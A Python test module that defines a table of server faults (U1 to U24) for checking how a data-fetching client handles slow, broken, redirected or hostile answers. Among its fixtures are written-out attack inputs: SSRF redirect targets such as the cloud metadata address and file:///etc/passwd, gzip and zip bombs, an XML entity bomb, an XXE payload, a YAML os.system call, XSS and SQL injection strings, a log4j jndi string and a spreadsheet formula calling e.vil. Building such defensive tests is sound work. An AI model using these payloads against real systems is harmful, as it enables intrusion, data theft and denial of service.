"""The faults of `reliability.md`, U1 to U24, as a table: what the server does, and what must become of the run.

A fault either replaces an answer on the wire, or changes what a recorded answer says; the latter is written
once for all formats. `outcomes` are the classes that a faulted run may end in. A run that succeeds
all the same may store nothing but true values, except where `believed`: no program can know better.
"""

import copy
import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from email.utils import format_datetime
from functools import cache
from typing import Any

from tests.conftest import NOW
from tests.faults import documents
from tests.faults.bench import Ask, Target
from tests.faults.documents import as_number, scaled
from tests.faults.server import Fault, answer, drip, flood, head, raw, redirect, reset, silent, zipped

TEXTUAL = ("csv", "json", "yaml", "markdown", "feed")
TYPED = ("json", "yaml")
EVERY = (*TEXTUAL, "zip", "parquet", "page")
REJECTED = ("bad_content", "schema", "incomplete")
FINE = ("ok", "not_modified", "no_data")
DOUBTED = (*FINE, *REJECTED)
DEADLINE = 0.5
LATER = timedelta(days=400)
Document = Any


@dataclass(frozen=True, kw_only=True)
class Case:
    """One fault. `kind` and `scope` say what it is aimed at; `forms`, which formats it fits.

    `tries`: how many requests the address must get. `wait`: how long the host wants to be left alone.
    `everywhere`: every answer of the run is hit. `names`: the error must name the key.
    """

    id: str
    name: str
    outcomes: tuple[str, ...]
    wire: Callable[[Ask], Fault | None] | None = None
    rows: Callable[[Document, Target], Document] | None = None
    written: Callable[[str, Document], bytes] = documents.dump
    kind: str = ""
    scope: str = "all"
    forms: tuple[str, ...] = EVERY
    seconds: float = 20
    tries: int | None = None
    wait: timedelta | None = None
    believed: bool = False
    everywhere: bool = False
    names: bool = False

    @property
    def label(self) -> str:
        return f"{self.id} {self.name}"

    def answer(self, ask: Ask, target: Target, plain: str) -> Fault | None:
        """What to send instead of the honest answer; None for the honest one."""
        if plain != target.url and not self.everywhere:
            return None
        if self.wire is not None:
            return self.wire(ask)
        if self.rows is None or ask.form not in self.forms:
            return None
        document = documents.load(ask.form, ask.body)
        body = self.written(ask.form, self.rows(document, target))
        return answer(body, content_type=ask.honest.type, etag=f'"wrong-{len(body)}"')


def _case(id_: str, name: str, outcomes: tuple[str, ...] | str, **how: Any) -> Case:
    return Case(id=id_, name=name, outcomes=(outcomes,) if isinstance(outcomes, str) else outcomes, **how)


# U1 to U3: slow, cut and broken answers


def _half(ask: Ask) -> bytes:
    return ask.body[: len(ask.body) // 2]


def _slow() -> Iterator[Case]:
    start = b"HTTP/1.1 200 OK\r\n"
    slow: dict[str, Callable[[Ask], Fault]] = {
        "no answer": lambda _: silent,
        "status line dripping": lambda _: drip(b"H", b"T"),
        "headers dripping": lambda _: drip(start + b"X-Long: ", b"x"),
        "body dripping": lambda ask: drip(head(content_length=str(len(ask.body) + 99_999)) + _half(ask), b" "),
        "body dripping without a length": lambda ask: drip(head() + _half(ask), b" "),
        "packed body dripping": lambda ask: drip(head(content_encoding="gzip") + zipped(_half(ask)), zipped(b"")),
        "chunks dripping": lambda _: drip(head(transfer_encoding="chunked"), b"1\r\nx\r\n"),
    }
    for name, act in slow.items():
        yield _case("U1", name, "timeout", wire=act, seconds=DEADLINE, tries=1)


def _chunk(body: bytes) -> bytes:
    return f"{len(body):x}\r\n".encode() + body + b"\r\n"


def _cut() -> Iterator[Case]:
    start = b"HTTP/1.1 200 OK\r\n"
    cut: dict[str, Callable[[Ask], Fault]] = {
        "reset before the answer": lambda _: reset(),
        "reset within the headers": lambda _: reset(start + b"Content-"),
        "reset within the body": lambda ask: reset(head(content_length=str(len(ask.body))) + _half(ask)),
        "nothing at all": lambda _: raw(b""),
        "broken status line": lambda _: raw(b"SMTP ready\r\n\r\n"),
        "body shorter than its length": lambda ask: raw(head(content_length=str(len(ask.body))) + _half(ask)),
        "chunks without an end": lambda ask: raw(head(transfer_encoding="chunked") + _chunk(_half(ask))),
    }
    for name, act in cut.items():
        yield _case("U2", name, "network", wire=act, tries=3)

    def once(ask: Ask) -> Fault | None:
        return reset() if ask.number == 0 else None

    yield _case("U2", "reset once, then right", FINE, wire=once, tries=2)
    yield _case("U3", "headers cut", "network", wire=lambda _: raw(start + b"Content-Type: text/csv\r\n"), tries=3)
    yield _case("U3", "body cut without a length", REJECTED, wire=lambda ask: raw(head() + _half(ask)))
    yield _case("U3", "cut before the last character", DOUBTED, wire=lambda ask: raw(head() + ask.body.rstrip()[:-1]))
    yield _case("U3", "cut in the last line", DOUBTED, wire=lambda ask: raw(head() + ask.body.rstrip()[:-3]))
    broken: dict[str, Callable[[Ask], Fault]] = {
        "gzip with a flipped byte": lambda ask: answer(_flipped(zipped(ask.body)), content_encoding="gzip"),
        "gzip cut": lambda ask: answer(zipped(ask.body)[:-9], content_encoding="gzip"),
        "gzip cut without a length": lambda ask: raw(head(content_encoding="gzip") + zipped(ask.body)[:-9]),
        "gzip that is none": lambda ask: answer(ask.body, content_encoding="gzip"),
        "longer than its length": lambda ask: raw(head(content_length=str(len(ask.body) // 2)) + ask.body),
    }
    for name, act in broken.items():
        yield _case("U3", name, "bad_content", wire=act, tries=1)


def _flipped(packed: bytes) -> bytes:
    middle = len(packed) // 2
    return packed[:middle] + bytes([packed[middle] ^ 0x55]) + packed[middle + 1 :]


# U4 to U6: refusals


def _refusals() -> Iterator[Case]:
    wait = timedelta(hours=2)

    def waiting(status: int) -> Callable[[Ask], Fault]:
        return lambda _: answer(b"later", status, retry_after=str(int(wait.total_seconds())))

    for status in (429, 503):
        yield _case("U4", f"{status}, seconds to wait", "rate_limited", wire=waiting(status), tries=1, wait=wait)

    def until(ask: Ask) -> Fault:
        return answer(b"later", 429, retry_after=format_datetime(ask.at + wait, usegmt=True))

    yield _case("U4", "429, a date to wait for", "rate_limited", wire=until, tries=1, wait=wait)
    yield _case(
        "U5", "429 without a time", "rate_limited", wire=lambda _: answer(b"", 429), tries=1, wait=timedelta(hours=1)
    )
    for status in (500, 502, 503):
        yield _case("U5", str(status), "server_error", wire=_status(status), tries=3)

    def failing(ask: Ask) -> Fault | None:
        return answer(b"oops", 500) if ask.number < 2 else None

    yield _case("U5", "500 twice, then right", FINE, wire=failing, tries=3)
    for status, outcome in (
        (401, "client_error"),
        (403, "client_error"),
        (404, "gone"),
        (410, "gone"),
        (451, "client_error"),
    ):
        yield _case("U6", str(status), outcome, wire=_status(status), tries=1)


def _status(status: int) -> Callable[[Ask], Fault]:
    return lambda _: answer(b"<html>no</html>", status, content_type="text/html")


# U7 and U8: something else instead of data, and other characters

PAGE = b"<!DOCTYPE html>\n<html><head><title>Sorry</title></head><body>Back soon</body></html>\n"
WRONG = {
    "a web page, and it says so": (PAGE, "text/html"),
    "a web page under the type of the data": (PAGE, ""),
    "a web page after blank lines": (b"\n\n  " + PAGE, ""),
    "plain words": (b"Service temporarily unavailable\n", "text/plain"),
    "null": (b"null", "application/json"),
    "an error object": (b'{"error": "overloaded", "code": 17}', "application/json"),
    "an error object with its address": (b'{"message": "Not Found", "documentation_url": "https://example.org"}', ""),
    "nothing": (b"", ""),
    "blank lines": (b" \n\n", ""),
    "noise": (bytes(range(256)) * 20, ""),
}


def _instead(body: bytes, kind: str) -> Callable[[Ask], Fault]:
    return lambda ask: answer(body, content_type=kind or ask.honest.type)


def _others() -> Iterator[Case]:
    for name, (body, kind) in WRONG.items():
        yield _case("U7", name, "bad_content", wire=_instead(body, kind), tries=1)

    def sent(change: Callable[[bytes], bytes], **headers: str) -> Callable[[Ask], Fault | None]:
        def act(ask: Ask) -> Fault | None:
            fits = ask.form in TEXTUAL or "content_type" in headers
            return answer(change(ask.body), **{"content_type": ask.honest.type, **headers}) if fits else None

        return act

    yield _case("U8", "another content type", FINE, wire=sent(bytes, content_type="application/octet-stream"))
    yield _case("U8", "a charset that is wrong", FINE, wire=sent(bytes, content_type="text/plain; charset=iso-8859-1"))
    text = {"forms": TEXTUAL}
    yield _case("U8", "a byte-order mark", FINE, wire=sent(lambda b: b"\xef\xbb\xbf" + b), **text)
    yield _case("U8", "UTF-16", (*FINE, "bad_content"), wire=sent(lambda b: b.decode().encode("utf-16")), **text)
    bare = sent(lambda b: b.decode().encode("utf-16-le"))
    yield _case("U8", "UTF-16 without its mark", "bad_content", wire=bare, **text)
    foreign = {"rows": _at_target(lambda _, v: f"{v}é"), "kind": "text", "scope": "one", **text}
    yield _case("U8", "Latin-1", "bad_content", written=_latin, **foreign)


def _latin(form: str, document: Document) -> bytes:
    plain = json.dumps(document, ensure_ascii=False).encode() if form == "json" else documents.dump(form, document)
    return plain.decode().encode("latin-1", "ignore")


# U9 to U12: other columns and rows


def _at_target(change: documents.Change) -> Callable[[Document, Target], Document]:
    return lambda document, target: documents.at_key(document, target.key, change, target.only)


def _layout() -> Iterator[Case]:
    needed = {"kind": "needed", "names": True}
    yield _case("U9", "renamed", "schema", rows=lambda d, t: documents.renamed(d, t.key, f"{t.key} v2"), **needed)
    yield _case("U9", "dropped", "schema", rows=lambda d, t: documents.renamed(d, t.key, None), **needed)
    capitals = {"rows": lambda d, t: documents.renamed(d, t.key, _capitals(t.key)), **needed}
    yield _case("U9", "in capitals", "schema", forms=tuple(form for form in EVERY if form != "feed"), **capitals)
    # readers of feeds do not mind: then everything has to be as it was
    yield _case("U9", "a feed in capitals", ("schema", *FINE), forms=("feed",), **capitals)
    yield _case("U10", "one more column", FINE, rows=lambda d, _: documents.extended(d, "zz_new", "1"), everywhere=True)
    backwards = {"everywhere": True}
    yield _case("U10", "columns reversed", FINE, rows=lambda d, _: documents.reordered(d, columns=True), **backwards)
    yield _case("U10", "rows reversed", FINE, rows=lambda d, _: documents.reordered(d, columns=False), **backwards)
    for name, how in {
        "semicolons": {"delimiter": ";"},
        "tabs": {"delimiter": "\t"},
        "CRLF": {"lineterminator": "\r\n"},
        "all in quotes": {"quoting": 1},
    }.items():
        outcomes = (*FINE, "bad_content", "schema") if "delimiter" in how else FINE
        yield _case("U10", name, outcomes, rows=_same, written=_csv(how), forms=("csv",))
    yield _case(
        "U10", "indented", FINE, rows=_same, written=lambda _, d: json.dumps(d, indent=3).encode(), forms=("json",)
    )
    yield _case("U11", "rows doubled", DOUBTED, rows=lambda d, _: documents.rows_changed(d, _doubled))
    yield _case(
        "U11", "the same again, as if new", FINE, wire=lambda ask: answer(ask.body, etag='"again"'), everywhere=True
    )
    parts: dict[str, Callable[[list[Any]], list[Any]]] = {
        "first half missing": lambda rows: rows[len(rows) // 2 :] if len(rows) > 1 else rows,
        "last half missing": lambda rows: rows[: (len(rows) + 1) // 2],
        "all but one missing": lambda rows: rows[:1],
    }
    for name, change in parts.items():
        yield _case("U12", name, DOUBTED, rows=_fewer(change), everywhere=True)
    one = _fewer(lambda rows: rows[1:] if len(rows) > 3 else rows)
    yield _case("U12", "one row missing", DOUBTED, rows=one, believed=True)
    yield _case("U12", "no rows", (*REJECTED, "no_data"), rows=_fewer(lambda _: []), everywhere=True)


def _capitals(key: str) -> str:
    return key.upper() if key.upper() != key else key.lower()


def _same(document: Document, _: Target) -> Document:
    return document


def _csv(how: dict[str, Any]) -> Callable[[str, Document], bytes]:
    return lambda _, document: documents.write_csv(document, **how)


def _doubled(rows: list[Any]) -> list[Any]:
    return [*rows, *rows]


def _fewer(change: Callable[[list[Any]], list[Any]]) -> Callable[[Document, Target], Document]:
    return lambda document, _: documents.rows_changed(document, change)


# U13 to U17: other values


def _values() -> Iterator[Case]:
    for scope in ("one", "all"):
        value = {"kind": "value", "scope": scope}
        yield _case("U13", f"{scope} rewritten", FINE, rows=_at_target(scaled(0.98)), believed=True, **value)
        for factor in (10, 60, 100, 1000):
            yield _case("U14", f"{scope} x {factor}", DOUBTED, rows=_at_target(scaled(factor)), **value)
    everything = {"kind": "value", "scope": "all"}
    yield _case("U14", "all / 1000", DOUBTED, rows=_at_target(scaled(0.001)), **everything)
    yield _case("U15", "numbers as text", DOUBTED, rows=_at_target(_as_text("{}")), forms=TYPED, **everything)
    yield _case("U15", "decimal commas", DOUBTED, rows=_at_target(_with_comma), **everything)
    yield _case("U15", "thousands separators", DOUBTED, rows=_at_target(_as_text("{:,}")), **everything)
    yield _case("U15", "a unit behind", DOUBTED, rows=_at_target(_as_text("{} M")), **everything)
    for bad in ("nan", "inf", "-inf"):
        made = _at_target(lambda _, v, bad=bad: _instead_of(v, float(bad)))
        yield _case("U16", bad, DOUBTED, rows=made, kind="value", scope="one")
    huge = {
        "rows": _at_target(lambda _, v: _instead_of(v, -987654321.5)),
        "forms": TYPED,
        "kind": "value",
        "scope": "one",
    }
    beyond = _case(
        "U16", "1e999", DOUBTED, written=lambda f, d: documents.dump(f, d).replace(b"-987654321.5", b"1e999"), **huge
    )
    yield beyond
    days: dict[str, Callable[[date], Any]] = {
        "in the future": lambda d: (max(d, NOW.date()) + LATER).isoformat(),
        "epoch milliseconds": lambda d: int(datetime(d.year, d.month, d.day, tzinfo=UTC).timestamp() * 1000),
        "31 February": lambda d: f"{d.year}-02-31",
        "day/month/year": lambda d: f"{d.day:02}/{d.month:02}/{d.year}",
        "year 1": lambda _: "0001-01-01",
        "words": lambda _: "last Tuesday",
    }
    for scope in ("one", "all"):
        for name, change in days.items():
            outcomes = (*REJECTED, *FINE)
            yield _case("U17", f"{scope}: {name}", outcomes, rows=_at_target(_dated(change)), kind="day", scope=scope)


def _as_text(form: str) -> documents.Change:
    def change(_: str, value: Any) -> Any:
        number = as_number(value)
        if number is None:
            return value
        return form.format(int(number) if number == int(number) else number)

    return change


def _with_comma(_: str, value: Any) -> Any:
    number = as_number(value)
    return value if number is None else repr(number).replace(".", ",")


def _instead_of(value: Any, number: float) -> Any:
    if as_number(value) is None:
        return value
    return str(number) if isinstance(value, str) else number


def _dated(change: Callable[[date], Any]) -> documents.Change:
    def each(key: str, value: Any) -> Any:
        instant = documents.as_instant(key, value)
        if instant is not None:
            made = change(datetime.fromtimestamp(instant if instant < 1e11 else instant / 1000, UTC).date())
            day = documents.as_day(made)  # a later instant stays one
            future = day is not None and day > NOW.date()
            return int(datetime(day.year, day.month, day.day, tzinfo=UTC).timestamp()) if day and future else made
        day = documents.as_day(value)
        if day is None or as_number(value) is not None:
            return value
        made = change(day)
        return str(made) if isinstance(value, str) and not isinstance(made, int) else made

    return each


# U18 to U20: redirects


def _moved(ask: Ask, number: int) -> str:
    return f"{ask.url.partition('moved=')[0].rstrip('?&')}{'&' if '?' in ask.url.partition('moved=')[0] else '?'}moved={number}"


def _hops(ask: Ask) -> int:
    return int(ask.url.partition("moved=")[2] or 0)


FORBIDDEN = {
    "link-local": "https://169.254.169.254/latest/meta-data/",
    "loopback": "https://127.0.0.1:{port}/canary",
    "loopback by name": "https://localhost:{port}/canary",
    "loopback, IPv6": "https://[::1]:{port}/canary",
    "loopback inside IPv6": "https://[::ffff:127.0.0.1]:{port}/canary",
    "loopback as one number": "https://2130706433:{port}/canary",
    "loopback in short": "https://127.1:{port}/canary",
    "private": "https://10.0.0.1/",
    "every address": "https://0.0.0.0:{port}/canary",
    "NAT64": "https://[64:ff9b::7f00:1]:{port}/canary",
    "a file": "file:///etc/passwd",
    "another scheme": "ftp://example.org/a",
    "user info": "https://user:word@127.0.0.1:{port}/canary",
}


def _redirects() -> Iterator[Case]:
    for status in (301, 302, 303, 307, 308):
        yield _case("U18", str(status), FINE, wire=_after(1, status), tries=2)
    yield _case("U18", "five hops", FINE, wire=_after(5, 302), tries=6)
    yield _case("U19", "six hops", "redirect", wire=_after(6, 302), tries=6)
    yield _case("U19", "a loop", "redirect", wire=lambda ask: redirect(ask.url), tries=6)
    yield _case("U19", "to nowhere", "redirect", wire=lambda _: answer(b"", 302), tries=1)
    for name, target in FORBIDDEN.items():
        yield _case("U20", name, "refused", wire=_to(target), tries=1)
    yield _case(
        "U20", "https to http", "refused", wire=lambda ask: redirect(ask.url.replace("https://", "http://")), tries=1
    )


def _after(hops: int, status: int) -> Callable[[Ask], Fault | None]:
    return lambda ask: redirect(_moved(ask, _hops(ask) + 1), status) if _hops(ask) < hops else None


def _to(target: str) -> Callable[[Ask], Fault]:
    return lambda ask: redirect(target.format(port=ask.port))


# U21 and U22: bombs


def _bombs() -> Iterator[Case]:
    large: dict[str, Callable[[Ask], Fault]] = {
        "gzip bomb": lambda _: answer(_zeros(), content_encoding="gzip"),
        "endless body": lambda _: flood(head(), b"x" * 65_536, 2000),
        "endless chunks": lambda _: flood(head(transfer_encoding="chunked"), _chunk(b"x" * 65_536), 2000),
        "a length of terabytes": lambda ask: raw(head(content_length="10000000000000") + ask.body),
    }
    for name, act in large.items():
        yield _case("U21", name, "too_large", wire=act, tries=1)
    archives: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
        "zip bomb": (lambda: _zip("a.csv", 50_000_000), ("too_large",)),
        "a thousand members": (lambda: _zip("{}.csv", 0, 1000), ("too_large",)),
        "a member that lies about its size": (_lying, ("too_large", "bad_content")),
    }
    for name, (body, outcomes) in archives.items():
        act = _made(body)
        yield _case("U21", name, outcomes, forms=("zip",), wire=act, tries=1)
        others = tuple(f for f in EVERY if f != "zip")
        yield _case("U21", f"{name}, unasked", (*REJECTED, "too_large"), forms=others, wire=act, tries=1)
    for name, content in HARD.items():
        yield _case("U22", name, ("bad_content", "too_large", "schema"), wire=_instead(content, ""), tries=1)


def _made(body: Callable[[], bytes]) -> Callable[[Ask], Fault]:
    return lambda _: answer(body(), content_type="application/zip")


@cache
def _zeros() -> bytes:
    return gzip.compress(bytes(100_000_000), 9, mtime=0)


@cache
def _zip(name: str, size: int, members: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(members):
            archive.writestr(name.format(number), b"1,2\n" * (size // 4))
    return out.getvalue()


def _lying() -> bytes:
    return _zip("benchmark_metadata.csv", 80_004).replace((80_004).to_bytes(4, "little"), (100).to_bytes(4, "little"))


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(10))
_ALIASES = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
HARD = {
    "XML entity bomb": f'<?xml version="1.0"?><!DOCTYPE l [{_LAUGHS}]><l>&l9;</l>'.encode(),
    "XML external entity": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>',
    "deep JSON lists": b"[" * 200_000,
    "deep JSON objects": b'{"a":' * 100_000,
    "deep YAML": b"- " * 50_000 + b"x",
    "YAML aliases": _ALIASES.encode(),
    "YAML that calls": b"!!python/object/apply:os.system ['true']",
    "one cell of 5 MB": b'a,b\n"' + b"x" * 5_000_000,
}


# U23 and U24: validators, hostile text

TEXTS = {
    "invisible characters": ("{}\u200b\u202e\ufeff", False),
    "a line break": ("{}\r\n", False),
    "markup": ("<script>alert(1)</script>{}<img src=x onerror=alert(1)> [a](javascript:x) ![b](http://e.vil/p)", True),
    "a formula": ('=HYPERLINK("http://e.vil","{}")', True),
    "template and SQL": ("{}{{{{7*7}}}}'; DROP TABLE runs;-- ${{jndi:ldap://e.vil}}", True),
    "very long": ("{}" + "x" * 5000, True),
    "NUL": ("{}\0", True),
}


def _texts() -> Iterator[Case]:
    same = {"wire": lambda _: raw(head(304, etag='"other"')), "everywhere": True}
    yield _case("U23", "304 whatever is asked", ("not_modified", "bad_content"), **same)
    churn = {
        "everywhere": True,
        "wire": lambda ask: answer(ask.body, etag=f'"{id(ask)}"', content_type=ask.honest.type),
    }
    yield _case("U23", "another ETag each time", FINE, **churn)
    rubbish = {"everywhere": True, "wire": lambda ask: answer(ask.body, etag="\xe9" * 3000, last_modified="\x01never")}
    yield _case("U23", "an ETag of rubbish", FINE, **rubbish)
    for name, (form, believed) in TEXTS.items():
        made = _at_target(lambda _, v, form=form: form.format(v) if isinstance(v, str) else v)
        outcomes = (*FINE, *REJECTED)
        yield _case("U24", name, outcomes, rows=made, kind="text", scope="one", believed=believed)
    half = _at_target(lambda _, v: f"{v}\ud800" if isinstance(v, str) else v)
    yield _case("U24", "half a character", "bad_content", rows=half, kind="text", scope="one", forms=("json",))


def all_cases() -> list[Case]:
    """The whole table, in order."""
    parts = (_slow, _cut, _refusals, _others, _layout, _values, _redirects, _bombs, _texts)
    return [case for part in parts for case in part()]


CASES = {case.label: copy.copy(case) for case in all_cases()}
